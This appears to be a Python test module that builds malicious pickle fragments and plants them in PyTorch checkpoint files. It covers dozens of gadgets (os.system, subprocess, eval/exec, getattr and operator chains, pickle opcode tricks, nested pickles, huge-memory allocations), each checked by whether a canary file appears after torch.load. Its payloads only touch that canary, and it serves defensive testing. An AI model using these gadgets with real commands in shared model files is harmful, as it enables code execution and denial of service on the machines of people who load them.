"""Values whose loading runs something: one per way to say so in a pickle, that anybody has found.

A form is a piece of a pickle that puts one value on the stack; ``runs`` says that loading it with
stock torch makes the canary appear on the machine of the tests (others need a network, a display or
another system). Forms are put into a file in the place of the text ``MARKER``.
"""

import argparse
import contextlib
import copyreg
import pickle
import struct
import sys
import time
import types
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import torch
from damage import replace_record

MARKER = "flmgrow marker"


@dataclass(frozen=True)
class Form:
    """``make`` returns the piece for a canary; ``protocol`` is what the file says it is of."""

    name: str
    make: Callable[[Path], bytes]
    runs: bool = True
    protocol: int = 2


class OwnClass:
    """A class of a user's package: it runs its own code when it is made."""

    def __init__(self, canary: str) -> None:
        Path(canary).touch()


def own_function(canary: str) -> None:
    """A function of a user's package."""
    Path(canary).touch()


OWN_PACKAGE = "somebodys_package"
_module = types.ModuleType(OWN_PACKAGE)
_module.OwnClass = OwnClass  # type: ignore[attr-defined]
_module.own_function = own_function  # type: ignore[attr-defined]
sys.modules[OWN_PACKAGE] = _module


def text(value: str) -> bytes:
    data = value.encode()
    return pickle.BINUNICODE + struct.pack("<I", len(data)) + data


def value_of(value: object) -> bytes:
    """A plain value, or a piece that is there already."""
    if isinstance(value, bytes):
        return value
    return text(value) if isinstance(value, str) else pickle.dumps(value, 2)[2:-1]


def named(module: str, name: str) -> bytes:
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


def on_stack(module: str, name: str) -> bytes:
    return text(module) + text(name) + pickle.STACK_GLOBAL


def tuple_of(*values: object) -> bytes:
    return pickle.MARK + b"".join(map(value_of, values)) + pickle.TUPLE


def list_of(*values: object) -> bytes:
    return pickle.EMPTY_LIST + pickle.MARK + b"".join(map(value_of, values)) + pickle.APPENDS


def call(function: bytes, *values: object) -> bytes:
    return function + tuple_of(*values) + pickle.REDUCE


def shell(module: str, name: str, runs: bool = True, protocol: int = 2) -> Form:
    """A function that is given a line for the shell."""
    function = on_stack(module, name) if protocol == 4 else named(module, name)
    return Form(
        f"{module} {name} {protocol}",
        lambda canary: call(function, f"touch {canary}"),
        runs,
        protocol,
    )


def python(module: str, name: str, *more: object, runs: bool = True) -> Form:
    """A function that is given a line of Python."""
    function = named(module, name)
    return Form(
        f"{module} {name}",
        lambda canary: call(function, f"open({str(canary)!r}, 'w').close()", *more),
        runs,
    )


def with_path(module: str, name: str, *more: object, runs: bool = True, protocol: int = 2) -> Form:
    """A function that is given the canary's path, and opens or makes it."""
    function = on_stack(module, name) if protocol == 4 else named(module, name)
    return Form(
        f"{module} {name}", lambda canary: call(function, str(canary), *more), runs, protocol
    )


def words(module: str, name: str, runs: bool = True) -> Form:
    """A function that is given the words of a command."""
    function = named(module, name)
    return Form(
        f"{module} {name} words",
        lambda canary: call(function, list_of("touch", str(canary))),
        runs,
    )


def nested(piece: bytes) -> bytes:
    """The bytes of a pickle of a piece, as a piece."""
    return pickle.dumps(pickle.PROTO + b"\x02" + piece + pickle.STOP, 2)[2:-1]


SYSTEM = named("os", "system")
GETATTR = named("builtins", "getattr")

SHELLS = [
    shell("os", "system"), shell("posix", "system"), shell("os", "system", protocol=4),
    shell("nt", "system", runs=False), shell("os", "popen", runs=False),
    shell("subprocess", "getoutput"), shell("subprocess", "getstatusoutput"),
    shell("commands", "getoutput"), shell("commands", "getstatusoutput"),
    shell("torch.utils.collect_env", "run"), shell("imaplib", "IMAP4_stream", runs=False),
    shell("torch", "serialization.os.system", protocol=4),
    shell("argparse", "_os.system", protocol=4),
    shell("numpy.distutils.exec_command", "exec_command", runs=False),
    shell("pty", "spawn", runs=False), shell("webbrowser", "open", runs=False),
    words("subprocess", "Popen"), words("commands", "Popen"), words("subprocess", "check_output"),
    words("commands", "check_call"), words("pip", "main", runs=False),
    words("pip._internal", "main", runs=False),
]  # fmt: skip

PROGRAMS = [
    python("builtins", "eval"), python("builtins", "exec"), python("__builtin__", "eval"),
    python("__builtin__", "exec"),
    python("code", "interact", runs=False), python("cProfile", "run", str(Path("/dev/null"))),
    python("profile", "run", "/dev/null"), python("trace", "Trace", runs=False),
    python("pdb", "run", runs=False), python("doctest", "debug_script", runs=False),
    python("runpy", "_run_code", {}, runs=True),
    python("numpy.f2py.crackfortran", "getlincoef", {}, runs=False),
    python("numpy.testing._private.utils", "runstring", {}),
    python("dummy_thread", "start_new_thread", runs=False),
    python("ctypes", "CDLL", runs=False), python("importlib", "import_module", runs=False),
    python("runpy", "run_path", runs=False), python("code", "InteractiveInterpreter", runs=False),
    python("torch.jit", "load", runs=False), python("torch.hub", "load", runs=False),
    python("torch", "load", runs=False), python("numpy", "load", runs=False),
]  # fmt: skip

WRITERS = [
    with_path("shutil", "copyfile", runs=False), with_path("_io", "FileIO", "w"),
    with_path("io", "open", "w"), with_path("cStringIO", "FileIO", "w"),
    with_path("StringIO", "open", "w"), with_path("logging", "FileHandler"),
    with_path("zipfile", "ZipFile", "w"), with_path("sqlite3", "connect"),
    with_path("shelve", "DbfilenameShelf", runs=False),
    with_path("SocketServer", "UnixStreamServer", runs=False),
    with_path("torch.serialization", "_open_file", "wb"),
    with_path("numpy.lib.format", "open_memmap", "w+", None, (1,), runs=False),
    with_path("xmlrpclib", "ServerProxy", runs=False),
    with_path("tarfile", "TarFile", "w"),
    with_path(OWN_PACKAGE, "OwnClass"), with_path(OWN_PACKAGE, "own_function"),
    with_path(OWN_PACKAGE, "OwnClass.__call__", runs=False, protocol=4),
    Form(
        "urllib urlretrieve",
        lambda canary: call(named("urllib", "urlretrieve"), "file:///dev/null", str(canary)),
    ),
    Form(
        "pathlib PosixPath.touch",
        lambda canary: call(
            on_stack("pathlib", "PosixPath.touch"), call(named("pathlib", "PosixPath"), str(canary))
        ),
        protocol=4,
    ),
]  # fmt: skip


def touch(canary: Path) -> str:
    return f"touch {canary}"


INDIRECT = [
    Form(
        "timeit",
        lambda c: call(named("timeit", "timeit"), "pass", f"open({str(c)!r}, 'w').close()"),
    ),
    Form(
        "getattr chain",
        lambda c: call(
            call(GETATTR, call(named("builtins", "__import__"), "os"), "system"),
            touch(c),
        ),
    ),
    Form(
        "attrgetter",
        lambda c: call(
            call(
                call(named("operator", "attrgetter"), "system"),
                call(named("importlib", "import_module"), "os"),
            ),
            touch(c),
        ),
    ),
    Form(
        "methodcaller",
        lambda c: call(
            call(named("operator", "methodcaller"), "system", touch(c)),
            call(named("importlib", "import_module"), "os"),
        ),
    ),
    Form("partial", lambda c: call(call(named("functools", "partial"), SYSTEM, touch(c)))),
    Form(
        "map into a deque",
        lambda c: call(
            named("collections", "deque"),
            call(named("builtins", "map"), SYSTEM, list_of(touch(c))),
        ),
    ),
    Form(
        "imap of Python 2 into a deque",
        lambda c: call(
            named("collections", "deque"),
            call(named("itertools", "imap"), SYSTEM, list_of(touch(c))),
        ),
    ),
    Form(
        "reduce of Python 2",
        lambda c: call(
            named("__builtin__", "reduce"),
            named("operator", "call"),
            list_of(SYSTEM, touch(c)),
        ),
    ),
    Form(
        "a thread of Python 2",
        lambda c: call(named("thread", "start_new_thread"), SYSTEM, tuple_of(touch(c))),
        runs=False,  # later
    ),
    Form(
        "torch's own rebuilding",
        lambda c: call(
            named("torch._tensor", "_rebuild_from_type_v2"),
            SYSTEM,
            named("builtins", "int"),
            tuple_of(touch(c)),
            None,
        ),
    ),
    Form(
        "numpy's own rebuilding",
        lambda c: call(named("numpy.random._pickle", "__generator_ctor"), touch(c), SYSTEM),
    ),
    Form(
        "an argument of an honest call",
        lambda c: call(named("argparse", "Namespace")) + pickle.EMPTY_DICT + text("x")
        + call(SYSTEM, touch(c)) + pickle.SETITEM + pickle.BUILD,
    ),
    Form(
        "an item of a list of its own",
        lambda c: call(named("collections", "deque")) + call(SYSTEM, touch(c)) + pickle.APPEND,
    ),
    Form("a key", lambda c: pickle.EMPTY_DICT + call(SYSTEM, touch(c)) + b"N" + pickle.SETITEM),
    Form(
        "a class given a method",
        lambda c: named("argparse", "Namespace") + b"N" + pickle.EMPTY_DICT
        + text("__setstate__") + SYSTEM + pickle.SETITEM + pickle.TUPLE2 + pickle.BUILD
        + call(SYSTEM, touch(c)) + pickle.POP,
    ),
    Form(
        "reconstructor",
        lambda c: call(named("copy_reg", "_reconstructor"), SYSTEM, SYSTEM, touch(c)),
        runs=False,
    ),
    Form(
        "newobj as a function",
        lambda c: call(named("copy_reg", "__newobj__"), named("subprocess", "Popen"), touch(c)),
        runs=False,
    ),
    Form("NEWOBJ", lambda c: named(OWN_PACKAGE, "OwnClass") + tuple_of(str(c)) + pickle.NEWOBJ,
         runs=False),
    Form("NEWOBJ_EX", lambda c: named("subprocess", "Popen") + tuple_of(touch(c)) + b"}"
         + pickle.NEWOBJ_EX, runs=False, protocol=4),
    Form("INST", lambda c: pickle.MARK + text(touch(c)) + pickle.INST + b"os\nsystem\n"),
    Form("OBJ", lambda c: pickle.MARK + SYSTEM + text(touch(c)) + pickle.OBJ),
    Form("EXT1", lambda c: call(pickle.EXT1 + b"\x01", touch(c)), runs=False),
    Form("EXT2", lambda c: call(pickle.EXT2 + b"\x01\x00", touch(c)), runs=False),
    Form("EXT4", lambda c: call(pickle.EXT4 + b"\x01\x00\x00\x00", touch(c)), runs=False),
    Form(
        "extension registry",
        lambda c: call(named("copy_reg", "add_extension"), "os", "system", 240) + pickle.POP
        + call(pickle.EXT1 + b"\xf0", touch(c)),
    ),
    Form("persistent id", lambda c: call(SYSTEM, touch(c)) + pickle.BINPERSID),
    Form(
        "a storage of a kind of its own",
        lambda c: tuple_of("storage", call(SYSTEM, touch(c)), "0", "cpu", 1) + pickle.BINPERSID,
    ),
    Form(
        "a pickle in a pickle",
        lambda c: call(
            named("cPickle", "loads"), nested(call(SYSTEM, touch(c)))
        ),
    ),
    Form(
        "torch's pickle in a pickle",
        lambda c: call(
            named("torch.storage", "_load_from_bytes"),
            nested(call(SYSTEM, touch(c))),
        ),
        runs=False,
    ),
    Form(
        "memory",
        lambda c: call(named("__builtin__", "bytearray"), 1 << 45),
        runs=False,
    ),
    Form(
        "memory of a range",
        lambda c: call(named("__builtin__", "list"), call(named("builtins", "range"), 1 << 45)),
        runs=False,
    ),
]  # fmt: skip

RANGE = call(named("__builtin__", "xrange"), 1 << 45)
BYTEARRAY = named("builtins", "bytearray")
MEMORY = [
    Form(name, lambda _, piece=piece: piece, runs=False)  # type: ignore[misc]
    for name, piece in {
        "a range in a deque": call(named("collections", "deque"), RANGE),
        "a range in a Counter": call(named("collections", "Counter"), RANGE),
        "a range in a Size": call(named("torch", "Size"), RANGE),
        "a range in a new deque": named("collections", "deque") + tuple_of(RANGE) + pickle.NEWOBJ,
        "memory by torch's own rebuilding": call(
            named("torch._tensor", "_rebuild_from_type_v2"), BYTEARRAY, BYTEARRAY,
            tuple_of(1 << 45), None,
        ),
        "memory by numpy's own rebuilding": call(
            named("numpy.random._pickle", "__generator_ctor"), 1 << 45, BYTEARRAY
        ),
    }.items()
]  # fmt: skip

FORMS = [*SHELLS, *PROGRAMS, *WRITERS, *INDIRECT, *MEMORY]


def plant(file: Path, form: Form, canary: Path) -> None:
    """Put a form in the place of every ``MARKER`` in a file of ``torch.save``."""
    marked = text(MARKER)
    first = form.make(canary)

    def change(data: bytes) -> bytes:
        assert marked in data
        return data[:1] + bytes([form.protocol]) + data[2:].replace(marked, first)

    replace_record(file, "/data.pkl", change)


def runs(file: Path, canary: Path, patience: float = 2.0) -> bool:
    """Load a file as a trainer would, and return whether the canary appears in so many seconds."""
    try:
        with contextlib.suppress(Exception):
            torch.load(file, weights_only=False)
    finally:
        _tidy()
    until = time.monotonic() + patience
    while not (appeared := canary.exists()) and time.monotonic() < until:
        time.sleep(0.01)  # a process of its own may take a while
    canary.unlink(missing_ok=True)
    return appeared


def _tidy() -> None:
    """Undo what forms do to Python itself."""
    with contextlib.suppress(AttributeError):
        delattr(argparse.Namespace, "__setstate__")
    with contextlib.suppress(ValueError):
        copyreg.remove_extension("os", "system", 240)
